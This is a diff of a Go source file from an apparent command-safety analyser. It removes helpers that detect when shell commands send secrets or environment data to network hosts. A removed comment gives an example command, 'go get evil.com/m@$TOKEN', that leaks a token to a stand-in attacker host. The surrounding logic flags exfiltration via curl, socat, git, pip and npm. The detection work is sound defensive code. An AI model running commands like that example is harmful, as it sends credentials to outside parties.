@@ -1,3 +1,8 @@
+// engine.go runs a simple command the walk found through the families of
+// the gate's knowledge (plainCall): the builtins, the host's state, the
+// readers and queries the table declares, the searches, the file tools,
+// the tools and hooks named by their entries, and what a command prints.
+
 package gate
 
 import (
@@ -6,25 +11,7 @@ import (
 
 	"github.com/perm-peer/perm-peer/gate/internal/argv"
 	"github.com/perm-peer/perm-peer/gate/internal/cmds"
-	"github.com/perm-peer/perm-peer/protocol"
 )
-
-// blockChanges reports a call of a block tool that changes the disk
-// (listing and querying do not), by the words its entry declares.
-func blockChanges(b *cmds.BlockTool, args []word) bool {
-	has := func(words string) bool {
-		for _, w := range args {
-			for _, x := range strings.Fields(words) {
-				if w.val == x || strings.HasPrefix(x, "--") && strings.HasPrefix(w.val, x) {
-					return true
-				}
-			}
-		}
-		return false
-	}
-	return has(b.Changes) || b.ChangeLetters != "" && hasShort(args, b.ChangeLetters) || b.Inspects != "" && !has(b.Inspects) ||
-		b.Changes == "" && b.Inspects == "" && b.ChangeLetters == ""
-}
 
 func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) summary {
 	c := plainCall{a: a, f: f, idx: idx, lb: lb, args: args, sc: sc, spec: cmds.Lookup(lb)}
@@ -40,56 +27,6 @@ func (a *analyzer) plain(f *rfact, idx int, lb string, args []word, sc *scope) s
 	c.sends()
 	c.exfil()
 	return c.s
-}
-
-// sends reads what the command sends or copies: socat between local files
-// is a copy; a network tool's words are read by network(); any other
-// command's flag values are read for secrets.
-func (c *plainCall) sends() {
-	a, f, idx, lb, args, sc := c.a, c.f, c.idx, c.lb, c.args, c.sc
-	if reads, writes, ok := socatLocal(lb, args); ok {
-		// socat FILE:a FILE:b is a copy, like cp: its files are read and written
-		for _, w := range reads {
-			a.readWord(w, sc, idx, false)
-		}
-		for _, w := range writes {
-			a.writeWord(w, sc, idx)
-		}
-	} else if (netReads(lb) || lookupSubcmd(uploaders, lb, args) || reachesNetwork(lb, args)) && !c.localSync() {
-		c.s.or(a.network(f, idx, lb, args, sc))
-	} else if !parsedOptions[lb] {
-		a.flagValueSecrets(lb, args, sc, idx, nil)
-	}
-}
-
-// localSync says the command is a sync between local paths (rsync
-// without a remote operand: a copy, cmds/files.go), not the network's.
-func (c *plainCall) localSync() bool {
-	t := cmds.FileToolOf(c.lb)
-	return t != nil && t.Does == cmds.Syncs && !remoteArgs(c.args)
-}
-
-// exfil is the floor for a secret the command sends: a tainted word or a
-// secret's variable on the network, or a token in a URL a fetcher gets
-// from another service's host.
-func (c *plainCall) exfil() {
-	a, f, idx, lb, args := c.a, c.f, c.idx, c.lb, c.args
-	for _, w := range args {
-		if w.taint && c.s.net || w.secretName != "" && c.s.net && secretOffService(w.secretName, a.hostsOf(idx)) {
-			f.floor = reason("floor.exfil", "a secret or the environment is sent to the network")
-		}
-		// git clone, pip install -i, npm i URL fetch the URL they are given:
-		// a token in it goes to that host as surely as with curl
-		if t := cmds.ToolOf(lb); w.secretName != "" && t != nil && t.FetchesURLs {
-			h := urlHost(w.val)
-			if p, _, _ := strings.Cut(w.val, "/"); h == "" && lb == "go" && strings.Contains(p, ".") {
-				h = p // go get evil.com/m@$TOKEN: a module path starts with its host
-			}
-			if h != "" && secretOffService(w.secretName, []string{h}) {
-				f.floor = reason("floor.exfil", lb+" sends a secret to another service's host in a URL")
-			}
-		}
-	}
 }
 
 // plainCall is one command plain() decides: its fact, words and scope,
@@ -367,35 +304,4 @@ func (c *plainCall) prints() {
 		s.secretList = s.projList && a.stdin.secretList && (lb != "grep" && lb != "rg" || filterMayKeepSecret(lb, args))
 		s.broadList = s.secretList && a.stdin.broadList && lb != "grep" && lb != "rg"
 	}
-}
-
-// urlHost is the host of a URL inside v (scheme://[user@]host[:port]/…,
-// or git's user@host:path), or "".
-func urlHost(v string) string {
-	if i := strings.Index(v, "://"); i >= 0 {
-		v = v[i+3:]
-		v, _, _ = strings.Cut(v, "/")
-		if j := strings.LastIndexByte(v, '@'); j >= 0 {
-			v = v[j+1:]
-		}
-		v, _, _ = strings.Cut(v, ":")
-		return v
-	}
-	if at := strings.IndexByte(v, '@'); at > 0 {
-		if h, _, ok := strings.Cut(v[at+1:], ":"); ok && !strings.Contains(h, "/") {
-			return h
-		}
-	}
-	return ""
-}
-
-// hostsOf lists the hosts command idx connects to.
-func (a *analyzer) hostsOf(idx int) []string {
-	var hosts []string
-	for _, g := range a.facts[max(idx, 0):] {
-		if g.kind == protocol.FactNetwork && g.parent == idx {
-			hosts = append(hosts, g.host)
-		}
-	}
-	return hosts
 }
